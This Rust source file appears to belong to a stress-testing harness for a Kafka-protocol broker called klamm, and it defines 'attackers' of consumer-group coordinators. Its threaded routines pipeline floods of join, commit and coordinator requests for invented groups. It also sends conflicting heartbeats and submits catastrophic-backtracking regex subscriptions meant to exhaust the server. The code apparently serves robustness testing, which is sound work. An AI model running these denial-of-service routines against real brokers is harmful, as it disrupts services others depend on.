//! Attackers of group coordinators, and the requests that they are made of.

use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering};

use bytes::Bytes;
use klamm::wire::frame;
use klamm::wire::messages::consumer_group_heartbeat::ConsumerGroupHeartbeatRequest;
use klamm::wire::messages::find_coordinator::FindCoordinatorRequest;
use klamm::wire::messages::heartbeat::HeartbeatRequest;
use klamm::wire::messages::join_group::{JoinGroupRequest, JoinGroupRequestProtocol};
use klamm::wire::messages::offset_commit::{
    OffsetCommitRequest, OffsetCommitRequestPartition, OffsetCommitRequestTopic,
};

use super::{TARGET_TOPIC, connect, in_threads, skip_answer};

/// Requests that are sent before their answers are read.
const AT_ONCE: usize = 100;

/// Numbers that no request had before.
static NEXT: AtomicU64 = AtomicU64::new(0);

fn next() -> u64 {
    NEXT.fetch_add(1, Ordering::Relaxed)
}

/// Sends what `request` makes until the connection ends, a hundred at a time.
fn ask_forever(target: SocketAddr, mut request: impl FnMut() -> Vec<u8>) {
    let Some(mut stream) = connect(target) else { return };
    while ask(&mut stream, &mut request).is_some() {}
}

fn ask(stream: &mut TcpStream, request: &mut impl FnMut() -> Vec<u8>) -> Option<()> {
    let some: Vec<u8> = (0..AT_ONCE).flat_map(|_| request()).collect();
    stream.write_all(&some).ok()?;
    (0..AT_ONCE).try_for_each(|_| skip_answer(stream))
}

/// A first heartbeat.
pub fn joining(group: &str, member: &str) -> ConsumerGroupHeartbeatRequest {
    ConsumerGroupHeartbeatRequest {
        group_id: group.to_owned(),
        member_id: member.to_owned(),
        rebalance_timeout_ms: 10_000,
        subscribed_topic_names: Some(vec![TARGET_TOPIC.to_owned()]),
        topic_partitions: Some(Vec::new()),
        ..Default::default()
    }
}

pub fn modern(request: &ConsumerGroupHeartbeatRequest) -> Vec<u8> {
    frame::request(request, 1, 1, Some("attack"))
}

pub fn groups(target: SocketAddr) {
    in_threads(4, move || {
        ask_forever(target, || {
            let number = next();
            let group = format!("invented-{number}");
            match number % 4 {
                0 => join(&group),
                1 => modern(&joining(&group, "m")),
                2 => commit(&group),
                _ => {
                    let request = FindCoordinatorRequest { coordinator_keys: vec![group], ..Default::default() };
                    frame::request(&request, 4, 1, Some("attack"))
                }
            }
        });
    })
}

/// Asks for a member id, for a session of half an hour.
pub fn join(group: &str) -> Vec<u8> {
    let request = JoinGroupRequest {
        group_id: group.to_owned(),
        session_timeout_ms: 1_800_000,
        rebalance_timeout_ms: 1_800_000,
        protocol_type: "consumer".to_owned(),
        protocols: vec![JoinGroupRequestProtocol { name: "range".to_owned(), metadata: Bytes::new() }],
        ..Default::default()
    };
    frame::request(&request, 9, 1, Some("attack"))
}

/// A commit with a long text.
pub fn commit(group: &str) -> Vec<u8> {
    let partitions = vec![OffsetCommitRequestPartition {
        committed_offset: 1,
        committed_metadata: Some("x".repeat(1000)),
        ..Default::default()
    }];
    let topics = vec![OffsetCommitRequestTopic { name: TARGET_TOPIC.to_owned(), partitions, ..Default::default() }];
    let request = OffsetCommitRequest { group_id: group.to_owned(), topics, ..Default::default() };
    frame::request(&request, 9, 1, Some("attack"))
}

pub fn beats(target: SocketAddr) {
    in_threads(8, move || {
        let group = format!("stormy-{}", next());
        let Some(mut stream) = connect(target) else { return };
        let Ok(()) = stream.write_all(&modern(&joining(&group, "m"))) else { return };
        let Some(()) = skip_answer(&mut stream) else { return };
        let mut turn = 0;
        let mut request = || {
            turn += 1;
            let epoch = [2, 2, 3, 2][turn % 4];
            let member = if turn % 4 == 3 { "stranger" } else { "m" };
            let beat =
                ConsumerGroupHeartbeatRequest { member_epoch: epoch, rebalance_timeout_ms: -1, ..Default::default() };
            let of_group = ConsumerGroupHeartbeatRequest {
                group_id: group.clone(),
                member_id: member.to_owned(),
                subscribed_topic_names: None,
                topic_partitions: None,
                ..beat
            };
            let classic = HeartbeatRequest {
                group_id: group.clone(),
                generation_id: epoch,
                member_id: member.to_owned(),
                ..Default::default()
            };
            if turn % 2 == 0 { modern(&of_group) } else { frame::request(&classic, 4, 1, Some("attack")) }
        };
        while ask(&mut stream, &mut request).is_some() {}
    })
}

pub fn expressions(target: SocketAddr) {
    in_threads(4, move || {
        ask_forever(target, || {
            let number = next();
            let expression = match number % 4 {
                0 => format!("({}|{number})*b", "a|aa|".repeat(200)),
                1 => format!(r"\w{{{}}}\d*x{number}", 20 + number % 20),
                2 => format!("((a{{{}}}){{90}}){{90}}", 10 + number % 80),
                _ => format!("(.*){{{}}}{number}", 10 + number % 200),
            };
            let request = ConsumerGroupHeartbeatRequest {
                subscribed_topic_names: None,
                subscribed_topic_regex: Some(expression),
                ..joining(&format!("expressive-{}", number % 100), "m")
            };
            modern(&request)
        });
    })
}

pub fn crowd(target: SocketAddr) {
    in_threads(2, move || ask_forever(target, || modern(&joining("crowd", &format!("m{}", next())))))
}
